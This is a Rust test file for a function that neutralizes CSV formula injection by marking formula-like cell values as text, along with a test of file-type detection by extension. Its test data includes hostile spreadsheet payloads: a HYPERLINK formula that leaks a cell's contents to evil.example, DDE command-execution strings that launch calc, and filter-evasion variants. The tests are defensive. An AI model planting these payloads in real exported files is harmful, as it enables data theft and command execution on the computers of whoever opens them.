//! What a spreadsheet would compute is text in every cell.

use super::*;

/// From OWASP's page on CSV injection, and what people get past naive filters with.
const FORMULAS: [&str; 14] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example?\"&A1,\"klik\")",
    "+6281200000777",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\"=1+1",
    "＝1+1",
    "\u{feff}=1+1",
    "\u{a0}@SUM(1)",
    "|calc",
];

#[test]
fn whatever_begins_a_formula_is_marked_as_text() {
    for formula in FORMULAS {
        assert_eq!(defused(formula), format!("'{formula}"), "{formula:?}");
    }
    for number in ["6301034101900001", "081200000777"] {
        assert_eq!(defused(number), format!("'{number}"));
    }
    for plain in [
        "",
        "Jembatan lapuk",
        "a=b",
        "2026-03-02",
        "12",
        "••••••••••••0001",
        "63.01.03/A/2026/0042",
    ] {
        assert_eq!(defused(plain), plain);
    }
}

#[test]
fn the_ending_of_the_file_says_its_form_and_nothing_else_does() {
    assert!(form(Path::new("register.CSV")).is_ok_and(|form| form == Form::Csv));
    assert!(form(Path::new("register.xlsx")).is_ok_and(|form| form == Form::Xlsx));
    for other in ["register", "register.xls", "csv", "register.csv.txt"] {
        assert!(form(Path::new(other)).is_err(), "{other}");
    }
}
